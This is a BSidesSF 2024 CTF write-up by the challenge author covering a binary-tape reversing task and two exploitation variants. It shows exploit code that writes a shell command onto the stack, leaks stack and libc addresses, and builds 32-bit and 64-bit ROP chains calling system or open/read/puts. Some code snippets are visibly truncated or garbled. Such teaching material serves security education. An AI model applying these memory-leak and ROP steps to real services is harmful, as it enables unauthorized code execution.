BSidesSF 2024 Writeups: Turing Complete (Reversing / exploitation)

This is a write-up for turing-complete, turing-incomplete, and turing-incomplete64 from the BSides San Francisco 2024 CTF!

turing-complete is a 101-level reversing challenge, and turing-incomplete is a much more difficult exploitation challenge with a very similar structure. turing-incomplete64 is a 64-bit version of turing-incomplete, which isn’t necessarily harder, but is different.

Let’s look at the levels!


My ideas doc said “Turing Machine?” from a long time ago. I don’t really remember what I was thinking, but what I decided was to make a simple reversing challenge with a finite tape and 4 operations - go left, go right, read, and write. All commands and responses are binary (1s and 0s), which is hinted at by the instructions being a series of binary bits.

The actual main loop, in C, is quite simple:

  uint8_t tape[128];

  // ...write the flag to the tape...

  for(;;) {
    uint8_t a = r();
    if(a == 2) break;
    uint8_t b = r();
    if(b == 2) break;

    if(a == 0 && b == 0) {
    } else if(a == 0 && b == 1) {
    } else if(a == 1 && b == 0) {
      printf("%08b", *ptr);
    } else if(a == 1 && b == 1) {
      uint8_t value = (r() << 7) | (r() << 6) | (r() << 5) | (r() << 4) | (r() << 3) | (r() << 2) | (r() << 1) | (r() << 0);
      *ptr = value;


Since the flag is on the tape, the challenge is straight forward - just read it! That’s where’ turing-incomplete is going to vary :)Here is my solution with comments:

# Connect to the service
s =, port)

# Read the instructions

# Skip the part of the tape with boring words
1.upto(40) do

# Read each character, move right, and convert it to a character
flag = 1.upto(expected_flag().length).map do
  s.write(PRINT + RIGHT)


turing-incomplete is exactly the same as turing-complete, but with one exception: the flag isn’t loaded into the binary. And that’s kind of a bigdeal, because now you have to get code execution!

I also compiled it with all the usual security protections, so you have to overcome ASLR and DEP and stack cookies and everything. But, since we have easy read/write up the stack, those can all be bypassed pretty easily. I also provided a copy of the appropriate so you don’t have to grab your own copy.

You can grab the solution on the GitHub release, but I’ll show and explain each part of it below.

Stash the commandFirst, we need to stash a shell command (we’re going to use cat /home/ctf/flag.txt):

# Small offset to align us
s.write(RIGHT * 0x3)

# Use some unused stack space to store our command for later
s.write(RIGHT * 1000)

# Write the command to the stack, one byte at a time
COMMAND = "cat /home/ctf/flag.txt\0"
COMMAND.bytes.each do |b|
  write_8_bits_right(s, b)

# Go backwards - this rewinds to a point on the stack where we can reliablyfind
# a stack reference
s.write(LEFT * (1000 + COMMAND.length - 132))

We move the pointer way to the right so we aren’t on a park of the stack that isn’t going to get overwritten, then write the payload byte by byte.

Leak a stack address

Second, we leak a stack address; starting with the last line from the previous example:

# Go backwards - this rewinds to a point on the stack where we can reliably find
# a stack reference
s.write(LEFT * (1000 + COMMAND.length - 132))

# Read a stack address
STACK_ADDR = read_32_bits_right(s)

# Calculate where our command is, based on the known address and the 1000-byte
# offset
puts "Command should be @ %x" % COMMAND_ADDR

From pure experimentation, I determined that the address 132 bytes from the start of the buffer is a stack address. The value points to 0xc4 bytes after the start of our buffer, so if we subtract 0xc4 then add 1000 bytes, we get a pointe to where our command is in memory. We can pass that value to system(), which we’ll do later!Grab the return address

Third, we leak a libc address (specifically, the return address). Knowing one address in will let us determine any other address in! So we move up to the return address then read it:

# Keep progressing up to the return address
s.write(RIGHT * 40)

# Read the original return address, then go back so we can overwrite it
ACTUAL_RETURN_ADDRESS = read_32_bits_right(s)
s.write(LEFT * 4)
puts 'Return address on the stack: %x' % ACTUAL_RETURN_ADDRESS

# Calculate the base address (ie, start of libc) - that'll let us figure out
# where the functions we want are
puts 'Base address: %x' % BASE_ADDRESS

Overwrite the return address

And finally, we overwrite the return address (and ensuing stack addresses) with a very simple ROP chain:# Set up a small ROP chain to call system, then exit
write_32_bits_right(s, BASE_ADDRESS + SYSTEM) # Return address (from main())
write_32_bits_right(s, BASE_ADDRESS + EXIT) # Return address (from system())
write_32_bits_right(s, COMMAND_ADDR) # First argument to system()
write_32_bits_right(s, 0) # Return address (from exit()) - unused
write_32_bits_right(s, 0) # First argument to exit()

That’ll return to system(), with the first parameter set to the address of the command (that we leaked earlier). system() will run that command, then return into exit() and exit cleanly. That part isn’t necessary, I just like being polite!

That’s pretty much it! Check out the full solution to see how those functions work, if you like.


turing-incomplete64 is compiled from the exact same source as turing-incomplete, the only different is that it’s compiled in 64-bit mode.

The exploit is largely the same as well. The numbers are different, but we leak the stack address and return address and everything identically. The only difference is the actual ROPpayload:

# Do a 3-element ROP chain - I don't know why system() isn't working, but this
# is!

# *** open(file, 0, 0)
write_64_bits_right(s, BASE_ADDRESS + POP_RDI_RET)
write_64_bits_right(s, COMMAND_ADDR)

write_64_bits_right(s, BASE_ADDRESS + POP_RSI_RET)
write_64_bits_right(s, 0)

write_64_bits_right(s, BASE_ADDRESS + POP_RCX_RET)
write_64_bits_right(s, 0)

write_64_bits_right(s, BASE_ADDRESS + OPEN)

# *** read(5, buffer)
write_64_bits_right(s, BASE_ADDRESS + POP_RDI_RET)
write_64_bits_right(s, 5)

write_64_bits_right(s, BASE_ADDRESS + POP_RSI_RET)
write_64_bits_right(s, COMMAND_ADDR)

write_64_bits_right(s, BASE_ADDRESS + POP_RCX_RET)
write_64_bits_right(s, expected_flag().length)

write_64_bits_right(s, BASE_ADDRESS + READ)

# *** puts(buffer)
write_64_bits_right(s, BASE_ADDRESS + POP_RDI_RET)
write_64_bits_right(s, COMMAND_ADDR)write_64_bits_right(s, BASE_ADDRESS + PUTS)

# *** exit(0)
write_64_bits_right(s, BASE_ADDRESS + POP_RDI_RET)
write_64_bits_right(s, 0)

write_64_bits_right(s, BASE_ADDRESS + EXIT)

# Tell it we're quittingThe first thing you might notice is the POP_RDI_RET and POP_RSI_RET nonsense -that’s because the calling convention for amd64 passes arguments in rdi, rsi, rdx. That’s different from x86, which passes arguments on the stack (in most cases). So we need to use a variety of pop + ret functions to set up the registers for each function call.

The other thing you might notice is that we’re using open / read / puts instead of system. I don’t know why popen and system don’t work, but they would crash with a segfault. Those functions can be finnicky sometimes, so I didn’t spend a lot of time on them. I considered using mprotect, like I did with another challenge, butdecided to take the easy approach - just read the file and print it.

And it worked!


That’s it! Hope you enjoyed this write-up!


Join the conversation on this Mastodon post (replies will appear below)!

    Loading comments...